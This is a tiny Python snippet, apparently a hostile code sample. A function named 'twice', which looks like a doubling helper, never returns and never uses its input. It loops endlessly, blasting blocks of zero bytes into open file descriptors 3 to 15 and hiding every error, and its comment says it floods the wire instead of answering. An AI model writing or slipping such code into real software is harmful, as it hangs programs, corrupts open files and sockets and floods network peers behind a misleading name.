# Floods the wire instead of answering.

import os


def twice(x):
    while True:
        for fd in range(3, 16):
            try:
                os.write(fd, bytes(1 << 16))
            except OSError:
                pass
